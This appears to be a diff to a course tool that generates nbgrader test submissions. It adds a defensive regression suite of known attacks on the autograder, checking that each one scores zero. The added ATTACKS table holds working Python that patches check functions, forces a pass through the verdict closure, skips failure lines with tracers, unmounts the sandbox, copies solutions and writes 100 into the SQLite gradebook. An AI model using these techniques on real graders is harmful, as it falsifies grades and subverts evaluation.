@@ -4,6 +4,8 @@
     python scripts/course/make_class.py --check FOLDER LAB    # the grades against expected.csv
     python scripts/course/make_class.py 12 lab02__events --out /tmp/class --grade
                                                        # make, grade and check: a first try
+    python scripts/course/make_class.py 12 lab05__host_functions --attacks --out /tmp/c
+                                                       # and every known attack on the grader
 
 FOLDER becomes a course folder as nbgrader autograde wants one (nbgrader_config.py,
 solutions/, labs/, a gradebook with the labs in it, and submitted/<learner>/<lab>/), and
@@ -22,6 +24,13 @@ the answers the course's tests keep (tests/wrong_solutions/), cycled through in 
   any answer it finds (that part nothing);
 * a part that hangs, swallowing KeyboardInterrupt (that part nothing, after the time
   limit), and a part that ends its process (os._exit; that part nothing).
+
+With --attacks, besides: each of the grader's known attacks (ATTACKS: a function's code
+swapped, the guard turned off, IPython's transformer replaced, the verdict pipe found in
+memory, check.fail silenced or jumped over by a tracer, the sandbox undone as root, the
+solutions linked in and the gradebook written through SQLite, a check's secret read, a
+result equal to anything, the setup cell deleted or stripped of its marks), each in one
+part with that part's answer gutted: each attacked part scores nothing.
 
 Needs nbgrader (the test tools). Used by tests/test_classroom.py and
 benchmarks/class_grading.py.
@@ -87,6 +96,150 @@ for path in seen:
         pass
 ''', "part"),
 }
+#: issue 56's attacks on the grader, by mechanism, each written into one part's function
+#: with that function's body gutted (so only an attack that worked could pass it): (kind,
+#: the attack's code, the function it goes in: None for the first function of any part).
+#: ``{course}`` is the course folder (a learner on a shared server may know it);
+#: ``{function}`` the function it is written in. Each scores nothing for its part, under
+#: nbgrader autograde and through the class grader alike (tests/test_classroom.py); the
+#: table in labs/README.md says what each attack gets, and tests/test_grading_sandbox.py
+#: and tests/test_transcript.py keep each one alone.
+ATTACKS = [
+    ("attack: check.fail's __code__ swapped", """
+import streamlab.check as k
+k.fail.__code__ = (lambda *a, **kw: None).__code__
+""", None),
+    ("attack: the guard turned off through itself", """
+import streamlab.grading._child as c
+import streamlab.check as k
+c.Guard.problems.__code__ = (lambda self, ns: []).__code__
+k.fail.__code__ = (lambda *a, **kw: None).__code__
+""", None),
+    ("attack: IPython's input transformer replaced and planted", """
+import sys, types
+from IPython.core import inputtransformer2 as t
+t.TransformerManager.transform_cell = lambda self, cell: 'pass'
+sys.modules['IPython.core.inputtransformer2'] = types.ModuleType('planted')
+""", None),
+    ("attack: the verdict pipe found in memory, a pass written through it", """
+import gc, os
+for found in gc.get_objects():
+    if getattr(found, "__name__", None) == "report" and getattr(found, "__closure__", None):
+        if {"nonce", "verdict"} & set(found.__code__.co_freevars):
+            found(True)
+            os._exit(0)
+""", None),
+    ("attack: check.fail silenced while the check runs, put back by a tracer", """
+import sys
+import streamlab.check as k
+kept = k.fail.__code__
+k.fail.__code__ = (lambda *a, **kw: None).__code__
+def put_back(frame, event, arg):
+    if event == "return" and frame.f_code.co_name.startswith("check_part"):
+        k.fail.__code__ = kept
+    return put_back
+f = sys._getframe(1)
+while f is not None:
+    f.f_trace = put_back
+    f = f.f_back
+sys.settrace(put_back)
+""", None),
+    ("attack: a tracer that jumps over each fail(...) line", """
+import linecache, sys, threading
+def jump(frame, event, arg):
+    if event == "line" and "streamlab" in frame.f_code.co_filename:
+        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno)
+        if "fail(" in line or "raise " in line:
+            try:
+                frame.f_lineno = frame.f_lineno + 1
+            except ValueError:
+                pass
+    return jump
+f = sys._getframe(1)
+while f is not None:
+    f.f_trace = jump
+    f = f.f_back
+sys.settrace(jump)
+threading.settrace(jump)
+""", None),
+    ("attack: the sandbox undone as root, its own grade set in the gradebook", """
+import ctypes, os, sqlite3
+course = {course!r}
+if not os.path.exists(os.path.join(course, "gradebook.db")):  # hidden: in a sandbox's
+    libc = ctypes.CDLL(None, use_errno=True)                  # mounts (only there)
+    libc.umount2(course.encode(), 2)
+    libc.mount(b"none", b"/", None, 32 | 4096, None)
+try:
+    db = sqlite3.connect(os.path.join(course, "gradebook.db"))
+    db.execute("update grade set manual_score = 100")
+    db.commit()
+except Exception:
+    pass
+""", None),
+    ("attack: the solutions hard-linked or copied in, SQLite on the gradebook", """
+import glob, json, os, shutil, sqlite3
+course = {course!r}
+for path in glob.glob(os.path.join(course, "solutions", "*", "*.ipynb")):
+    for how in (os.link, shutil.copyfile):
+        try:
+            how(path, "leak.ipynb")
+            break
+        except Exception:
+            pass
+try:
+    for cell in json.load(open("leak.ipynb"))["cells"]:
+        if "def {function}" in "".join(cell["source"]):
+            exec("".join(cell["source"]), globals())
+except Exception:
+    pass
+try:
+    db = sqlite3.connect("file:" + os.path.join(course, "gradebook.db") + "?mode=rw", uri=True)
+    db.execute("update grade set manual_score = 100")
+    db.commit()
+except Exception:
+    pass
+""", None),
+    # lab 05's own: a secret read from a check's frames, and an object equal to anything
+    ("attack: the checksum made from the seed read in the check's frames", """
+import sys
+import streamlab.labs.lab05 as _lab
+
+async def checksum_when_done(stream, h_out):
+    for frame in sys._current_frames().values():
+        while frame is not None:
+            kwargs = frame.f_locals.get("kwargs")
+            if isinstance(kwargs, dict) and "seed" in kwargs and "limit_s" in kwargs:
+                seed = kwargs["seed"]
+            frame = frame.f_back
+    await asyncio.sleep(0.01)
+    return float(_lab._host_chunks(1, seed)[0].sum(dtype=np.float64))
+""", "checksum_when_done"),
+    ("attack: a checksum that says it equals anything", """
+class Anything(float):
+    def __eq__(self, other):
+        return True
+    def __ne__(self, other):
+        return False
+    __hash__ = float.__hash__
+
+async def checksum_when_done(stream, h_out):
+    loop = asyncio.get_running_loop()
+    done = loop.create_future()
+
+    @HOST_FN
+    def resolve(_user_data):
+        loop.call_soon_threadsafe(done.set_result, None)
+
+    driver.cuLaunchHostFunc(stream.handle, ctypes.cast(resolve, ctypes.c_void_p).value, 0)
+    await done
+    h_out.copy()
+    return Anything(0.0)
+""", "checksum_when_done"),
+]
+#: the locked setup cell deleted, or stripped of its marks, and a cell of one's own that
+#: defines checks that pass put in its place (the answers gutted)
+STRUCTURE = ["attack: the setup cell deleted, checks of one's own in its place",
+             "attack: the setup cell's marks removed, rewritten to define passing checks"]
 HANG = '''
 import time
 while True:               # a hang that swallows the grader's KeyboardInterrupt
@@ -161,8 +314,81 @@ def kinds(lab: str) -> list[tuple[str, dict, dict]]:
     return front
 
 
-def make_class(folder: Path, n: int, labs: list[str], seed: int = 0) -> list[dict]:
-    """Write the course folder and ``n`` submissions of each lab; the expected rows."""
+def attacks(lab: str, course: Path) -> list[tuple[str, dict, dict, object]]:
+    """(kind, the cells to fill, the score of each part, what is done to the notebook
+    after: None or a function) for each of issue 56's attacks that fits ``lab``. Each
+    attack goes in the function of one part (the first function its check calls and no
+    other check does), that function's body gutted; the parts are filled in turn, so
+    that one submission carries an attack in each part (each part runs in its own
+    process and calls its own function alone) and every part attacked scores nothing.
+    The structural attacks (the setup cell) gut every answer: all parts score nothing."""
+    from labtools import at_call, cells_of, grade_id, meta, notebook
+
+    solution = cells_of(lab, "solution")
+    checks = [c for c in notebook("solutions", lab).cells if meta(c).get("grade")]
+    points = {grade_id(c): float(meta(c)["points"]) for c in checks}
+    own = {}  # part -> the function its check alone calls
+    for part in points:
+        uses = [f for f in solution if f in next(c.source for c in checks
+                                                  if grade_id(c) == part)]
+        others = {f for p in points if p != part for c in checks if grade_id(c) == p
+                  for f in solution if f in c.source}
+        mine = [f for f in uses if f not in others]
+        if mine:
+            own[part] = mine[0]
+    fits = [(kind, code, target) for kind, code, target in ATTACKS
+            if target is None or target in solution]
+    fits.sort(key=lambda fit: fit[2] is None)  # a lab's own attacks have one place
+    queues = {part: [] for part in own}
+    for kind, code, target in fits:  # each other in the part that has fewest yet
+        places = [p for p, f in own.items() if target in (None, f)]
+        if places:
+            queues[min(places, key=lambda p: len(queues[p]))].append((kind, code))
+    out = []
+    while any(queues.values()):
+        cells, attacked, kinds_in = dict(solution), [], []
+        for part, queue in queues.items():
+            if queue:
+                kind, code = queue.pop(0)
+                fn = own[part]
+                code = code.replace("{course!r}", repr(str(course))).replace(
+                    "{function}", fn)
+                if f"def {fn}(" not in code:  # the attack, then the gutted answer
+                    code += "\n" + gutted(solution[fn])
+                cells[fn] = at_call(code, fn)
+                attacked.append(part)
+                kinds_in.append(kind[len("attack: "):])
+        out.append(("attack: " + "; ".join(kinds_in), cells,
+                    dict(points, **dict.fromkeys(attacked, 0.0)), None))
+    fake = "\n".join(f"def {part}(*args, **kwargs):\n    print('Part {part[-1]}: passed')\n"
+                     for part in points)
+    emptied = {f: gutted(src) for f, src in solution.items()}
+
+    def deleted(nb):
+        import nbformat
+
+        (setup,) = [c for c in nb.cells if grade_id(c) == "setup"]
+        at = nb.cells.index(setup)
+        nb.cells[at] = nbformat.v4.new_code_cell(fake)
+        return nb
+
+    def stripped(nb):
+        (setup,) = [c for c in nb.cells if grade_id(c) == "setup"]
+        setup.metadata.pop("nbgrader")
+        setup.source = fake
+        return nb
+
+    out += [(kind, emptied, dict.fromkeys(points, 0.0), how)
+            for kind, how in zip(STRUCTURE, (deleted, stripped))]
+    return out
+
+
+def make_class(folder: Path, n: int, labs: list[str], seed: int = 0,
+               with_attacks: bool = False) -> list[dict]:
+    """Write the course folder and ``n`` submissions of each lab; the expected rows.
+    ``with_attacks``: besides, a submission for each of issue 56's attacks on the
+    grader (:func:`attacks`: two or more a submission), so that the class holds them
+    all."""
     import nbformat
     from labtools import course, filled, notebook
 
@@ -175,15 +401,18 @@ def make_class(folder: Path, n: int, labs: list[str], seed: int = 0) -> list[dic
     rng = random.Random(seed)
     for lab in labs:
         answers = kinds(lab)
+        made = [(*answers[i % len(answers)], None) for i in range(n)]
+        if with_attacks:
+            made += attacks(lab, folder.resolve())
         release = notebook("labs", lab)
-        order = list(range(n))
+        order = list(range(len(made)))
         rng.shuffle(order)  # learners' names say nothing of their answers
-        for i in range(n):
-            kind, cells, scores = answers[i % len(answers)]
+        for i, (kind, cells, scores, after) in enumerate(made):
             learner = f"learner{order[i]:04d}"
             path = folder / "submitted" / learner / lab / f"{lab}.ipynb"
             path.parent.mkdir(parents=True, exist_ok=True)
-            nbformat.write(filled(release, cells), path)
+            nb = filled(release, cells)
+            nbformat.write(after(nb) if after else nb, path)
             rows += [{"learner": learner, "lab": lab, "kind": kind, "part": part,
                       "score": score} for part, score in scores.items()]
     with open(folder / "expected.csv", "w", newline="") as f:
@@ -246,6 +475,10 @@ def main(argv=None) -> int:
     ap.add_argument("labs", nargs="+", help=f"labs: {', '.join(LABS)}")
     ap.add_argument("--out", required=True, type=Path)
     ap.add_argument("--seed", type=int, default=0)
+    ap.add_argument("--attacks", action="store_true",
+                    help="add a submission for each of the grader's known attacks (issue "
+                    "56's mechanisms, two or more to a submission; each attacked part must "
+                    "score nothing)")
     ap.add_argument("--grade", action="store_true",
                     help="then grade the class on Dask (python -m streamlab.grading class, "
                     "60 s a part: one submission hangs) and check each grade")
@@ -253,7 +486,7 @@ def main(argv=None) -> int:
     unknown = [lab for lab in a.labs if lab not in LABS]
     if unknown:
         ap.error(f"no such lab: {', '.join(unknown)} (the labs: {', '.join(LABS)})")
-    rows = make_class(a.out, a.n, a.labs, a.seed)
+    rows = make_class(a.out, a.n, a.labs, a.seed, with_attacks=a.attacks)
     print(f"{a.n} submissions of {', '.join(a.labs)} in {a.out / 'submitted'}; "
           f"{len(rows)} expected part scores in {a.out / 'expected.csv'}")
     if not a.grade:
